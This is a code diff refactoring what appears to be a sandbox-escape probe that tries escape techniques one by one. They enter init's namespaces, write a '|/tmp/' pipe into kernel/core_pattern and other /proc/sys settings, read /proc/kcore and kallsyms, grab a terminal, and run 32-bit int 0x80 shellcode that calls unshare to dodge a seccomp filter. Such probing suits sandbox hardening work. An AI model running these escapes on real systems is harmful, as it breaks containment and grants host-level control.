@@ -55,7 +55,8 @@ def enter_the_namespaces_of_init():
         return call(308, os.open(path, os.O_RDONLY), 0)
 
     names = ("mnt", "pid", "net", "user", "ipc", "uts", "cgroup")
-    actions = {f"{pid}/{name}": lambda pid=pid, name=name: enter(f"/proc/{pid}/ns/{name}") for name in names for pid in (1, "self")}
+    paths = [f"/proc/{pid}/ns/{name}" for name in names for pid in (1, "self")]
+    actions = {path: lambda path=path: enter(path) for path in paths}
     actions["pidfd"] = lambda: call(308, os.pidfd_open(1), MOUNT | PID)
     return each(**actions)
 
@@ -117,8 +118,8 @@ def magic_system_request():
 
 def kernel_settings():
     paths = ["kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "kernel/ns_last_pid", "kernel/pid_max"]
-    paths += ["vm/overcommit_memory", "vm/drop_caches", "fs/file-max", "user/max_user_namespaces", "kernel/randomize_va_space"]
-    paths += ["net/ipv4/ip_forward", "kernel/core_uses_pid", "kernel/yama/ptrace_scope", "fs/protected_symlinks"]
+    paths += ["vm/overcommit_memory", "vm/drop_caches", "fs/file-max", "user/max_user_namespaces"]
+    paths += ["kernel/randomize_va_space", "net/ipv4/ip_forward", "kernel/core_uses_pid", "fs/protected_symlinks"]
     actions = {path: lambda path=path: write("/proc/sys/" + path, b"|/tmp/" + PARAM["mark"].encode()) for path in paths}
     actions["kcore"] = lambda: read("/proc/kcore", 16)
     actions["kallsyms"] = lambda: {line.split()[0] for line in read("/proc/kallsyms").split(b"\n")[:50] if line}
@@ -164,11 +165,13 @@ def type_into_a_terminal():
 
     def own_terminal():
         main, other = os.openpty()
-        os.setsid() if os.getpid() != os.getsid(0) else None
         fcntl.ioctl(other, 0x540E, 0)  # TIOCSCTTY
         push(other)
 
-    return each(stdin=lambda: push(0), stdout=lambda: push(1), tty=lambda: os.open("/dev/tty", os.O_RDWR), own=own_terminal)
+    def terminal():
+        return os.open("/dev/tty", os.O_RDWR)
+
+    return each(stdin=lambda: push(0), stdout=lambda: push(1), tty=terminal, own=own_terminal)
 
 
 def other_personality():
@@ -177,7 +180,8 @@ def other_personality():
 
 def numbers_of_a_32_bit_program():
     """unshare has another number there: a filter that looks at numbers alone lets it through."""
-    code = bytes.fromhex("53 b8 36010000 bb 00000010 cd80 5b c3")  # eax = 310 (unshare), ebx = CLONE_NEWUSER, int 0x80
+    # push rbx; mov eax, 310 (unshare there); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
+    code = bytes.fromhex("53 b836010000 bb00000010 cd80 5b c3")
     page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
     page.write(code)
     address = ctypes.addressof(ctypes.c_char.from_buffer(page))
